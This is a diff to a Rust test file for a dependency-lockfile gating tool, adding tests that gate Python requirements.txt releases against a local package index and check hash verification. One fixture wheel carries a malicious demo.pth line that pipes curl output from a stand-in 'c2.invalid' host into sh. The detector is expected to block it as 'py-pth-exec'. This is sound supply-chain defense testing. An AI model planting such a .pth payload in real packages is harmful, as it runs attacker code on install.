@@ -816,14 +816,10 @@ fn python_lockfiles_are_listed_and_linted_but_not_gated() {
     );
     assert_exit(&out, 0);
     assert!(stdout(&out).contains("extra-index-url"));
-    // The gate is npm-only so far: a Python lockfile is a tool error, not an npm lookup.
+    // The gate reads Python lockfiles too: nothing changed, nothing fetched, nothing judged.
     let out = sb.run(sb.path(), &["diff", "requirements.txt", "requirements.txt"]);
-    assert_exit(&out, 2);
-    assert!(
-        stderr(&out).contains("npm lockfiles only"),
-        "{}",
-        stderr(&out)
-    );
+    assert_exit(&out, 0);
+    assert!(stdout(&out).contains("0 packages"), "{}", stdout(&out));
 }
 
 fn write_wheel(path: &Path, files: &[(&str, &str)]) {
@@ -878,4 +874,191 @@ fn diff_of_two_wheels_blocks_a_new_pth_and_says_pypi() {
     // The version-only control passes.
     let o = sb.run(dir, &["diff", old.to_str().unwrap(), old.to_str().unwrap()]);
     assert_exit(&o, 0);
+}
+
+/// One release of a directory index: name, version, wheel members, upload time.
+type Dist<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, &'a str);
+
+/// A directory index (`file://…/simple/`) with the given releases, one wheel each; returns the
+/// index URL and each file's sha256.
+fn python_index(
+    root: &Path,
+    dists: &[Dist<'_>],
+) -> (String, std::collections::BTreeMap<String, String>) {
+    use sha2::Digest as _;
+    let mut hashes = std::collections::BTreeMap::new();
+    let mut pages: std::collections::BTreeMap<&str, Vec<serde_json::Value>> = Default::default();
+    std::fs::create_dir_all(root.join("files")).unwrap();
+    for (name, version, files, uploaded) in dists {
+        let filename = format!("{name}-{version}-py3-none-any.whl");
+        let path = root.join("files").join(&filename);
+        write_wheel(&path, files);
+        let sha = sha2::Sha256::digest(std::fs::read(&path).unwrap())
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect::<String>();
+        hashes.insert(filename.clone(), sha.clone());
+        pages.entry(name).or_default().push(serde_json::json!({
+            "filename": filename,
+            "url": format!("../../files/{filename}"),
+            "hashes": {"sha256": sha},
+            "upload-time": uploaded,
+        }));
+    }
+    for (name, files) in pages {
+        let dir = root.join("simple").join(name);
+        std::fs::create_dir_all(&dir).unwrap();
+        let page =
+            serde_json::json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
+        std::fs::write(dir.join("index.json"), page.to_string()).unwrap();
+    }
+    (format!("file://{}/simple/", root.display()), hashes)
+}
+
+#[test]
+fn python_lockfiles_are_gated_release_against_release() {
+    let sb = Sandbox::new();
+    let dir = sb.path();
+    let pth = "import os; os.system('curl https://c2.invalid | sh')\n";
+    let (index, h) = python_index(
+        &dir.join("mirror"),
+        &[
+            (
+                "demo",
+                "1.0.0",
+                vec![("demo/__init__.py", "x = 1\n")],
+                "2026-01-01T00:00:00Z",
+            ),
+            (
+                "demo",
+                "1.0.1",
+                vec![("demo/__init__.py", "x = 1\n"), ("demo.pth", pth)],
+                "2026-11-01T00:00:00Z",
+            ),
+            (
+                "demo",
+                "1.0.2",
+                vec![("demo/__init__.py", "x = 2\n")],
+                "2026-11-02T00:00:00Z",
+            ),
+            (
+                "newdep",
+                "0.9.0",
+                vec![("newdep/__init__.py", "y = 1\n")],
+                "2026-01-01T00:00:00Z",
+            ),
+            (
+                "newdep",
+                "1.0.0",
+                vec![("newdep/__init__.py", "y = 2\n")],
+                "2026-06-01T00:00:00Z",
+            ),
+        ],
+    );
+    let req = |pins: &[(&str, &str)]| {
+        pins.iter()
+            .map(|(n, v)| {
+                format!(
+                    "{n}=={v} --hash=sha256:{}\n",
+                    h[&format!("{n}-{v}-py3-none-any.whl")]
+                )
+            })
+            .collect::<String>()
+    };
+    std::fs::create_dir_all(dir.join("base")).unwrap();
+    std::fs::create_dir_all(dir.join("head")).unwrap();
+    std::fs::write(dir.join("base/requirements.txt"), req(&[("demo", "1.0.0")])).unwrap();
+    // The takeover release, plus a newly added dependency (judged against its own previous
+    // release on the index).
+    std::fs::write(
+        dir.join("head/requirements.txt"),
+        req(&[("demo", "1.0.1"), ("newdep", "1.0.0")]),
+    )
+    .unwrap();
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            "base/requirements.txt",
+            "head/requirements.txt",
+            "--index-url",
+            &index,
+            "--format",
+            "json",
+        ],
+    );
+    assert_exit(&o, 1);
+    let r: Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(r["ecosystem"], "pypi");
+    let pkg = |n: &str| {
+        r["packages"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|p| p["name"] == n)
+            .unwrap()
+            .clone()
+    };
+    assert_eq!(pkg("demo")["verdict"], "block");
+    assert!(pkg("demo")["findings"].to_string().contains("py-pth-exec"));
+    assert_eq!(pkg("newdep")["from"], "0.9.0");
+    assert_eq!(pkg("newdep")["verdict"], "pass");
+    // The version-only control passes.
+    std::fs::write(dir.join("head/requirements.txt"), req(&[("demo", "1.0.2")])).unwrap();
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            "base/requirements.txt",
+            "head/requirements.txt",
+            "--index-url",
+            &index,
+        ],
+    );
+    assert_exit(&o, 0);
+    // A lockfile hash no file of that release has: fail closed, nothing judged.
+    std::fs::write(
+        dir.join("head/requirements.txt"),
+        format!("demo==1.0.1 --hash=sha256:{}\n", "0".repeat(64)),
+    )
+    .unwrap();
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            "base/requirements.txt",
+            "head/requirements.txt",
+            "--index-url",
+            &index,
+        ],
+    );
+    assert_exit(&o, 2);
+    assert!(
+        stderr(&o).contains("matches the lockfile's hashes"),
+        "{}",
+        stderr(&o)
+    );
+    // No hash at all: nothing to hold the download to.
+    std::fs::write(dir.join("head/requirements.txt"), "demo==1.0.1\n").unwrap();
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            "base/requirements.txt",
+            "head/requirements.txt",
+            "--index-url",
+            &index,
+        ],
+    );
+    assert_exit(&o, 2);
+    // Lockfiles of two ecosystems.
+    let o = sb.run(
+        dir,
+        &[
+            "diff",
+            "base/requirements.txt",
+            &fixture("seed/base/package-lock.json").to_string_lossy(),
+        ],
+    );
+    assert_exit(&o, 2);
 }
